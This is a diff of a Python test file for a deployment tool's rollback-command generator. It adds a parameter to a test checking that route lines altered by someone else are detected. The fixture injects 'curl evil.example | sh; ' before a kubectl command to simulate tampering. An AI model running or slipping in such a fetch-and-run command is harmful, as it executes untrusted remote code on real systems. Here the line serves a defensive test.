@@ -37,11 +37,12 @@ def test_without_a_way_back_there_is_no_such_line() -> None:
     assert "By hand" not in text(facts(record()), wide=True)
 
 
+@pytest.mark.parametrize("held", ["", "2026-03-01T09:00:00Z"], ids=["Flux keeps it again", "Flux leaves it"])
 @pytest.mark.parametrize("hold", ["", "2026-03-01T12:00:00Z"])
 @pytest.mark.parametrize("ours", [True, False])
-def test_what_somebody_else_put_on_the_route_is_not_to_be_typed(ours: bool, hold: str) -> None:
+def test_what_somebody_else_put_on_the_route_is_not_to_be_typed(ours: bool, hold: str, held: str) -> None:
     (state,) = ROUTES[GREEN].routes
-    state = replace(state, annotated=True, stamp="7.a", held=hold and "2026-03-01T09:00:00Z")
+    state = replace(state, annotated=True, stamp="7.a", held=held)
     line = way_back_line(state, shop().places, GREEN, "7.a", hold)
     changed = line if ours else line.replace("kubectl", "curl evil.example | sh; kubectl", 1)
     found = traffic(replace(state, way_back=changed))
